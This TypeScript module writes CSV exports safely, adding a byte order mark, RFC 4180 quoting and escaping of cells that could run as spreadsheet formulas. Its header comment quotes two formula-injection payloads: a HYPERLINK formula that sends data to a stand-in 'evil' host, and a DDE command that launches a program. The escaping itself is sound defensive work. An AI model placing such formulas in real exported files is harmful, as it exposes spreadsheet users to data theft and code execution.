// CSV that opens safely in a spreadsheet, for every CSV export (today a suite run's results,
// compare/export.ts). Cells hold model output and prompts, which are untrusted text.
//
// - A UTF-8 byte order mark starts the file: Excel reads a CSV without one in the system's
//   legacy code page, which turns Chinese, Arabic, emoji and even "é" into mojibake.
// - RFC 4180 quoting: a cell holding a comma, a quote or a line break is quoted, its quotes
//   doubled. So is one holding a semicolon or a tab, which Excel takes as the separator in many
//   locales (an unquoted "a;=1+1" would become two cells there, the second a formula), and one with
//   spaces at its ends, which some readers trim.
// - Formula injection (OWASP's "CSV Injection"): a cell that starts with =, +, -, @, a tab or a
//   carriage return is run as a formula by Excel, LibreOffice and Google Sheets
//   (`=HYPERLINK("http://evil","x")` makes a link that sends data out; `=cmd|'/c calc'!A0` runs
//   a program through DDE in old Excel). Such a cell gets a leading single quote, which makes
//   every spreadsheet read it as text, and is quoted. Leading spaces do not make it safe (Google
//   Sheets trims them on import), so they are looked past; leading quotes too, so that a cell
//   that already starts with `'=` keeps its own quote when read back.
// - Negative numbers are kept as numbers, against OWASP's advice to escape every leading "-":
//   a cell that is only a minus sign, digits and at most one decimal point ("-12", "-0.5") is
//   read as that number by every spreadsheet, and holds no function, reference, operator or
//   letter that a formula would need to do harm. Escaping it would turn numbers in exported
//   answers ("-3") into text that cannot be summed. Anything more ("-1+2", "-A1", "-1e5") is
//   escaped.

/** The byte order mark (U+FEFF), written as EF BB BF in UTF-8. */
export const BOM = '\uFEFF';

const FORMULA = /^'*[\s]*[=+\-@\t\r]/;
const NEGATIVE_NUMBER = /^-\d+(?:\.\d+)?$/;

/** True if a spreadsheet could run `value` as a formula (see the header). */
export function runsAsFormula(value: string): boolean {
	return FORMULA.test(value) && !NEGATIVE_NUMBER.test(value);
}

/** One cell: neutralised if it could run as a formula, quoted when it needs to be. */
export function csvField(value: string): string {
	const safe = runsAsFormula(value) ? `'${value}` : value;
	const quote = safe !== value || /[",;\t\r\n]|^\s|\s$/.test(safe);
	return quote ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** A whole file: the byte order mark, then the rows, each ending with CRLF (RFC 4180). */
export function toCsv(rows: readonly (readonly string[])[]): string {
	return BOM + rows.map((row) => row.map(csvField).join(',')).join('\r\n') + '\r\n';
}

/** The type to save a CSV file with. */
export const CSV_TYPE = 'text/csv;charset=utf-8';
